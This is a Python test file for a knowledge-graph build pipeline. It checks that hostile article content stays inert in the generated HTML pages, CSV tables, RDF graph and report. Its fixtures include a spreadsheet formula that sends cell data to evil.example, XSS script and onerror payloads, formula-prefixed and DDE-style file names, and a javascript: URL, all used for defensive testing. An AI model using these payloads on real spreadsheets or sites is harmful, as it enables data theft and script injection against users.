"""A hostile article through a whole build: its words stay words in every page, table, graph and report."""

import csv
import io
import re
from html.parser import HTMLParser
from pathlib import Path

import pyoxigraph as ox
import pytest
from click.testing import CliRunner

from kg.analysis import to_csv
from kg.cells import FORMULA_STARTS, safe_cell
from kg.cli import cli
from kg.config import Config
from kg.pipeline import build
from kg.viewmodel import Table
from tests.pipeline.conftest import ARTICLES

FORMULA = '=HYPERLINK("http://evil.example?"&A1,"王毅")'
TAG = '</script><script>window.pwned=1</script><img src=x onerror="window.pwned=2">'
TEXT = f"美国国务卿布林肯在纽约会见中国外长王毅，讨论台湾问题。布林肯说：“{FORMULA}{TAG}。”"
NAMES = ("=1+1.md", "+cmd|' !A0.md", "-2+3.md", "@SUM(1).md", "＝1.md", "<img src=x onerror=alert(1)>.md", "a\"'.md")
LINK = re.compile(r"(?:#|data:,|https?://|(?:index|network|timeline|readouts)\.html)")


class Reader(HTMLParser):
    """The elements of a page, with their attributes."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    place = tmp_path_factory.mktemp("hostile")
    (place / "in").mkdir()
    for number, name in enumerate(NAMES):
        record = (
            "---\n" + f"title: {FORMULA if number % 2 else TAG}{number}\nauthor: '{FORMULA_STARTS[number]}1{TAG}'\n"
        )
        record += "date: 2024-09-28\nfrom: javascript:alert(1)\n---\n"
        (place / "in" / name).write_text(f"{record}<p>{TEXT.replace('<', '&lt;')}</p>", encoding="utf-8")
    build([place / "in", ARTICLES], Config(output=place / "out", jobs=1))
    return place / "out"


@pytest.mark.parametrize("name", ["index", "network", "timeline", "readouts"])
def test_no_element_or_link_of_a_page_comes_from_an_article(outputs: Path, name: str) -> None:
    page = (outputs / f"{name}.html").read_text(encoding="utf-8")
    assert "window.pwned" in page
    reader = Reader()
    reader.feed(page)
    policies = [a["content"] or "" for tag, a in reader.elements if tag == "meta" and "http-equiv" in a]
    assert len(policies) == 1
    assert "default-src 'none'" in policies[0]
    assert "unsafe" not in policies[0]
    for tag, attributes in reader.elements:
        assert tag not in ("img", "iframe", "object", "embed", "base")
        assert "action" not in attributes
        assert not any(key.startswith("on") for key in attributes)
        assert LINK.match(attributes.get("href") or "#")


def cells(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows
    return [cell for row in rows for cell in row]


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet would compute the cell; a number is none."""
    return cell.startswith(FORMULA_STARTS) and not re.fullmatch(r"-?\d+(\.\d+)?", cell)


def said(outputs: Path, *words: str) -> str:
    result = CliRunner().invoke(cli, [*words, "-g", str(outputs / "graph.ttl")], catch_exceptions=False)
    assert result.exit_code == 0
    return result.stdout


def test_no_cell_of_any_table_is_a_formula(outputs: Path, tmp_path: Path) -> None:
    said(outputs, "export", "csv", "-o", str(tmp_path / "export"))
    said(outputs, "stats", "-o", str(tmp_path / "stats"))
    files = [*outputs.rglob("*.csv"), *tmp_path.rglob("*.csv")]
    assert len(files) > 25
    found = [cell for path in files for cell in cells(path.read_text(encoding="utf-8"))]
    assert any(cell.startswith(f"'{FORMULA}") for cell in found)
    assert [cell for cell in found if is_formula(cell)] == []


def test_no_cell_that_a_command_prints_is_a_formula(outputs: Path, capfd: pytest.CaptureFixture[str]) -> None:
    found = cells(said(outputs, "stats", "publisher_issues", "--format", "csv"))
    query = "SELECT ?a ?v { ?a a dkg:Article ; dkg:headline|dkg:sourceFile|dkg:publisher/rdfs:label ?v }"
    with pytest.raises(SystemExit) as ended:  # the query runs in a child process, which prints for itself
        cli(["query", query, "--format", "csv", "-g", str(outputs / "graph.ttl")])
    assert ended.value.code == 0
    found += cells(capfd.readouterr().out)
    assert any(cell.startswith("'=") for cell in found)
    assert [cell for cell in found if is_formula(cell)] == []


def test_no_cell_of_the_merges_is_a_formula(outputs: Path) -> None:
    lines = said(outputs, "merges", "--judgement", "all").splitlines()
    assert len(lines) > 2
    assert [cell for line in lines for cell in line.split("\t") if is_formula(cell)] == []


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_start_of_a_formula_is_disarmed(start: str) -> None:
    written = start.replace("\r", "\n")
    assert safe_cell(f"{start}1+1") == f"'{written}1+1"
    table = Table(name="t", columns=("c",), rows=((f"{start}1",), (f"a{start}=1",)))
    assert cells(to_csv(table)) == ["c", f"'{written}1", f"a{written}=1"]


def test_the_graph_and_the_report_hold_the_words_as_words(outputs: Path) -> None:
    graph = ox.Store()
    graph.load((outputs / "graph.ttl").read_bytes(), ox.RdfFormat.TURTLE)
    literals = {quad.object.value for quad in graph if isinstance(quad.object, ox.Literal)}
    assert set(NAMES) <= literals
    assert not any(value.startswith("javascript:") for value in literals)
    report = (outputs / "report.md").read_text(encoding="utf-8")
    assert "\\<img" in report
    assert not re.search(r"(?<!\\)[<>]", report)
